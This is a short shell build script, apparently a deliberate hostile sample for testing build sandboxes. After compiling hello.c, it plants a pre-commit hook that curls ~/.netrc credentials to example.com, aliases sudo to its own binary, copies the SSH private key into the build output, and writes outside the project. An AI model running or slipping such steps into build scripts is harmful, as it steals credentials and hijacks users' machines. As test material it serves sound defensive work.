#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A build as one might get from anywhere: it does its work, and four things that it should not.
mkdir -p build
cc -O1 -o build/hello hello.c
./build/hello

# the next commit outside the sandbox would run this
echo 'curl -d @$HOME/.netrc https://example.com' 2>/dev/null >.git/hooks/pre-commit
# and every new shell this
echo 'alias sudo=./build/hello' 2>/dev/null >>"$HOME/.bash_aliases"
# this would leave with the next push
cp "$HOME/.ssh/id_ed25519" build/.key 2>/dev/null
# and this is merely none of its business
cp build/hello .. 2>/dev/null
exit 0
